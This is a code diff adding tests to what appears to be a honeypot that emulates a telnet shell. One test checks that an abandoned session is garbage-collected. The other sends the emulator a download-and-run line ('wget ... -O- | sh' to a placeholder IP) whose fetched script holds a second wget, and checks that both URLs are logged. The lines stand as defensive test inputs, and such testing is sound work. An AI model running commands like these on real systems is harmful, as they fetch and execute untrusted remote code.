@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import asyncio
+import gc
+import weakref
 from base64 import b64encode
 from typing import Any
 
@@ -44,3 +47,39 @@ async def test_standard_input_goes_to_the_command_that_reads(bench: Any) -> Any:
     b.capture.flush()
     await b.desk.drain(5)
     assert list(b.bodies.values()) == [b"abc\x00\xff"]
+
+
+async def test_a_shell_that_nobody_holds_leaves_nothing_for_the_garbage_collector(bench: Any) -> Any:
+    b = bench("telnet")
+    gc.disable()
+    try:
+        console = Console(b.context, b"root", door="telnet", interactive=True)
+        console.line(b"echo x > /tmp/x; cat /proc/self/stat; (sleep 5 &)")
+        console.close()
+        machine, files = weakref.ref(console.shell.machine), weakref.ref(console.files)
+        del console
+        await b.desk.drain(5)
+        assert machine() is None
+        assert files() is None
+    finally:
+        gc.enable()
+
+
+async def test_a_body_that_comes_after_the_session_finds_its_shell(bench: Any) -> Any:
+    come = asyncio.Event()
+
+    async def follow(offer: Any, publish: Any) -> bytes:
+        await come.wait()
+        return b"#!/bin/sh\nwget http://198.51.100.2/second\n"
+
+    b = bench("telnet", follow=follow)
+    console = Console(b.context, b"root", door="telnet", interactive=True)
+    console.line(b"wget http://198.51.100.1/first -O- | sh")
+    console.close()
+    del console
+    gc.collect()
+    come.set()
+    await b.desk.drain(5)
+    assert [offer.url for offer in b.events.of("offer.seen")][:2] == [
+        "http://198.51.100.1/first", "http://198.51.100.2/second",
+    ]  # fmt: skip
